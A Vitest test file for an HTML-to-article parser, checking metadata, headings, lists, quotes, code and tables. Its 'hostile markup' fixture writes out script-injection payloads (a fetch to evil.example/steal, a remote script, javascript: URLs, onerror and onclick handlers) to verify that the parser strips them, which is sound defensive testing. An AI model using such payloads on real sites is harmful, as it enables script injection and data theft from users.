// HTML import: a saved news page, a page full of scripts and handlers (only text comes out, and
// never a script's content), entities, lists, quotes, code, tables and the container choice.

import { describe, expect, it } from 'vitest'

import { parse } from 'parse5'

import { htmlFragmentBlocks, parseHtml } from './html'
import { collectBlocks } from './html-blocks'

const NEWS_PAGE = `<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>PM Modi in Tokyo | Example News</title>
  <meta property="og:title" content="PM Modi in Tokyo for the QUAD summit">
  <meta property="og:site_name" content="Example News">
  <meta name="author" content="Jane Doe">
  <meta property="article:published_time" content="2022-05-23T08:15:00+05:30">
  <meta name="keywords" content="India, Japan, QUAD">
  <link rel="stylesheet" href="site.css">
  <style>body { color: red }</style>
  <script>window.dataLayer = [];</script>
</head>
<body>
  <header class="site"><a href="/">Example News</a><h1 class="logo">Example News</h1></header>
  <nav><ul><li><a href="/world">World</a></li><li><a href="/india">India</a></li></ul></nav>
  <main>
    <article>
      <header>
        <h1>PM Modi in Tokyo</h1>
        <p class="byline">By Jane Doe · <time datetime="2022-05-23">23 May 2022</time></p>
      </header>
      <p>PM Modi is leaving for Tokyo&nbsp;to attend the   QUAD
         Leaders Summit.</p>
      <figure><img src="modi.jpg" alt="PM Modi"><figcaption>PM Modi in Delhi.</figcaption></figure>
      <aside class="related"><h2>Related</h2><p>Other story</p></aside>
      <h2>QUAD Summit</h2>
      <p>Leaders will review initiatives &amp; talk trade.</p>
      <blockquote><p>“For the 2+2 we are in discussions.”</p></blockquote>
      <h2>Military Cooperation</h2>
      <ul><li>MILAN 22 exercise</li><li><p>Supply agreement</p></li></ul>
      <ol start="3"><li>third</li><li>fourth</li></ol>
      <pre>line one
  line two</pre>
      <footer>Share this: <button>Twitter</button></footer>
    </article>
  </main>
  <aside>Subscribe!</aside>
  <footer>© Example News</footer>
</body>
</html>`

describe('parseHtml on a saved news page', () => {
  it('extracts the article, its metadata and sections', () => {
    const doc = parseHtml(NEWS_PAGE, 'tokyo.html')
    expect(doc).toEqual({
      title: 'PM Modi in Tokyo',
      source: 'Example News',
      published: '2022-05-23',
      tags: ['India', 'Japan', 'QUAD'],
      // The byline line and the image caption are page furniture (Readability): not article text.
      lead: ['PM Modi is leaving for Tokyo\u00a0to attend the QUAD Leaders Summit.'],
      sections: [
        {
          heading: 'QUAD Summit',
          paragraphs: [
            'Leaders will review initiatives & talk trade.',
            { kind: 'quote', text: '“For the 2+2 we are in discussions.”' }
          ]
        },
        {
          heading: 'Military Cooperation',
          paragraphs: [
            { kind: 'list-item', level: 1, ordered: false, text: 'MILAN 22 exercise' },
            { kind: 'list-item', level: 1, ordered: false, text: 'Supply agreement' },
            { kind: 'list-item', level: 1, ordered: true, text: 'third' },
            { kind: 'list-item', level: 1, ordered: true, text: 'fourth' },
            { kind: 'code', text: 'line one\n  line two' }
          ]
        }
      ]
    })
  })

  it('falls back to og:title, then <title> without the site name, and to <time> for the date', () => {
    const withOg = parseHtml(
      '<title>Story | Example News</title><meta property="og:title" content="OG story">' +
        '<meta property="og:site_name" content="Example News"><h1>One</h1><h1>Two</h1><p>x</p>',
      'a.html'
    )
    expect(withOg.title).toBe('OG story')
    const titleOnly = parseHtml(
      '<title>Story | Example News</title><meta property="og:site_name" content="Example News">' +
        '<article><p>Text <time datetime="2021-02-03T10:00">then</time>.</p></article>',
      'b.html'
    )
    expect(titleOnly).toMatchObject({
      title: 'Story',
      source: 'Example News',
      published: '2021-02-03'
    })
  })

  it('reads JSON-LD as data for the source and date', () => {
    const doc = parseHtml(
      '<script type="application/ld+json">{"@context":"https://schema.org","@graph":[{"@type":' +
        '"NewsArticle","datePublished":"2020-01-31","publisher":{"name":"Wire"}}]}</script><p>x</p>',
      'ld.html'
    )
    expect(doc).toMatchObject({ source: 'Wire', published: '2020-01-31', lead: ['x'] })
  })

  it('makes sections of h1–h3 under a title h1, an h3 headed "h2 › h3"', () => {
    const doc = parseHtml(
      '<article><h1>Summit report</h1><p>Lead.</p><h2>Trade</h2><p>Tariffs fell.</p>' +
        '<h3>Steel</h3><p>Steel quotas.</p><h3>Rice</h3><p>Rice duties.</p>' +
        '<h2>Security</h2><h3>Exercises</h3><p>Naval drills.</p><h4>Note</h4><p>n</p></article>',
      'report.html'
    )
    expect(doc).toMatchObject({
      title: 'Summit report',
      lead: ['Lead.'],
      sections: [
        { heading: 'Trade', paragraphs: ['Tariffs fell.'] },
        { heading: 'Trade › Steel', paragraphs: ['Steel quotas.'] },
        { heading: 'Trade › Rice', paragraphs: ['Rice duties.'] },
        { heading: 'Security › Exercises', paragraphs: ['Naval drills.', 'Note', 'n'] }
      ]
    })
  })

  it('makes sections of h3 when they are the only headings, and keeps the page title', () => {
    const doc = parseHtml(
      '<title>Notes</title><body><p>x</p><h3>One</h3><p>1</p><h3>Two</h3><p>2</p></body>',
      'n.html'
    )
    expect(doc).toMatchObject({ title: 'Notes', lead: ['x'] })
    expect(doc.sections.map((s) => s.heading)).toEqual(['One', 'Two'])
  })

  it('uses h1 as sections when there are several, and h4–h6 as paragraphs', () => {
    const doc = parseHtml(
      '<body><h1>A</h1><p>a</p><h4>Minor</h4><p>m</p><h1>B</h1><p>b</p></body>',
      'h.html'
    )
    expect(doc.sections).toEqual([
      { heading: 'A', paragraphs: ['a', 'Minor', 'm'] },
      { heading: 'B', paragraphs: ['b'] }
    ])
  })
})

describe('parseHtml on hostile markup', () => {
  const HOSTILE = `<html><head>
    <script>document.write('<h1>Injected</h1>'); fetch('https://evil.example/steal')</script>
    <script src="https://evil.example/x.js"></script>
    <meta http-equiv="refresh" content="0; url=javascript:alert(1)">
  </head>
  <body onload="alert('load')">
    <p onclick="alert('click')">Click <a href="javascript:alert('link')">this link</a> now.</p>
    <img src=x onerror="alert('img')">
    <iframe src="https://evil.example/frame">Frame fallback</iframe>
    <object data="x.swf">Object fallback</object>
    <svg><script>alert('svg')</script><text>SVG text</text></svg>
    <noscript><p>Enable JavaScript</p></noscript>
    <template><p>Template content</p></template>
    <style>p::after { content: "CSS text" }</style>
    <div hidden>Hidden div</div><p style="display: none">Invisible</p>
    <p>&lt;script&gt;alert('escaped')&lt;/script&gt; is text &amp; stays text.</p>
    <form action="javascript:alert(1)"><button>Press</button><textarea>Typed</textarea></form>
    <script>alert('end')</script>
  </body></html>`

  it('keeps only visible text; script content, handlers and URLs never appear', () => {
    const doc = parseHtml(HOSTILE, 'hostile.html')
    const all = [...doc.lead, ...doc.sections.flatMap((s) => [s.heading, ...s.paragraphs])]
    expect(all).toEqual([
      'Click this link now.',
      "<script>alert('escaped')</script> is text & stays text."
    ])
    expect(doc.title).toBeUndefined()
    expect(JSON.stringify(doc)).not.toMatch(/evil|onload|onclick|onerror|Injected|Frame|Hidden/)
  })

  it('survives deeply nested markup without recursion', () => {
    const html = `${'<div>'.repeat(20000)}deep${'</div>'.repeat(20000)}`
    // Deeper than an import accepts (html-bounds.ts): refused with a message, not a stack overflow.
    expect(() => parseHtml(html, 'deep.html')).toThrow(/more than 1,000 levels deep/)
    // Reading the blocks of such a tree still needs no recursion.
    const blocks = collectBlocks(parse(html))
    expect(blocks.map((b) => b.text)).toEqual(['deep'])
  })
})

describe('htmlFragmentBlocks', () => {
  it('splits on blocks and double <br>, joining single <br> with a space', () => {
    expect(
      htmlFragmentBlocks('<p>a<br>b<br><br>c</p><h2>Head</h2><td>x</td>').map((b) => b.text)
    ).toEqual(['a b', 'c', 'Head', 'x'])
  })
})

describe('collectBlocks: structure kept as blocks', () => {
  const blocksOf = (html: string) => collectBlocks(parse(html))

  it('nests list items by level, numbered or not, a list in a quote as quoted text', () => {
    expect(
      blocksOf(
        '<ul><li>one<ul><li>one-a<ol><li>deep</li></ol></li></ul></li><li><p>two</p><p>more</p></li></ul>' +
          '<blockquote><p>Said so.</p><ol start="4"><li>fourth</li></ol></blockquote>'
      )
    ).toEqual([
      { kind: 'list-item', level: 1, ordered: false, text: 'one' },
      { kind: 'list-item', level: 2, ordered: false, text: 'one-a' },
      { kind: 'list-item', level: 3, ordered: true, text: 'deep' },
      { kind: 'list-item', level: 1, ordered: false, text: 'two' },
      // A list item's later paragraphs are paragraphs (the contract has no item continuation).
      { kind: 'paragraph', text: 'more' },
      { kind: 'quote', text: 'Said so.' },
      { kind: 'quote', text: '4. fourth' }
    ])
  })

  it('keeps a <pre> whole with its whitespace, and its language from the code class', () => {
    expect(
      blocksOf(
        '<pre><code class="hljs language-python">def f():\n\n    return 1\n</code></pre>' +
          '<pre>  a  <b>b</b><br>c</pre>'
      )
    ).toEqual([
      { kind: 'code', text: 'def f():\n\n    return 1\n', language: 'python' },
      { kind: 'code', text: '  a  b\nc' }
    ])
  })

  it('reads a data table as rows of tab-separated cells, a <thead> row or a row of <th> a header', () => {
    expect(
      blocksOf(
        '<table><caption>Incidents</caption><thead><tr><th>Date</th><td>Vessel</td></tr></thead>' +
          '<tbody><tr><th>5 March</th><td><p>Unaizah</p><p>May 4</p></td></tr>' +
          '<tr><td></td><td>Rubber <b>boats</b><br>(two)</td></tr></tbody></table>' +
          '<table><tr><th>Key</th><th>Value</th></tr><tr><td>a</td><td>1</td></tr></table>'
      )
    ).toEqual([
      { kind: 'paragraph', text: 'Incidents' },
      { kind: 'table-row', header: true, text: 'Date\tVessel' },
      { kind: 'table-row', text: '5 March\tUnaizah May 4' },
      { kind: 'table-row', text: '\tRubber boats (two)' },
      { kind: 'table-row', header: true, text: 'Key\tValue' },
      { kind: 'table-row', text: 'a\t1' }
    ])
  })

  it('reads a layout table (lists, headings or long prose in its cells) as ordinary text', () => {
    const prose = 'Long prose in a column. '.repeat(60)
    expect(
      blocksOf(
        `<table><tr><td><h3>Menu</h3><ul><li>Home</li></ul></td><td>${prose}</td></tr></table>` +
          '<table role="presentation"><tr><td>Logo</td><td>Site</td></tr></table>'
      )
    ).toEqual([
      { kind: 'heading', level: 3, text: 'Menu' },
      { kind: 'list-item', level: 1, ordered: false, text: 'Home' },
      { kind: 'paragraph', text: prose.trim() },
      { kind: 'paragraph', text: 'Logo Site' }
    ])
  })
})
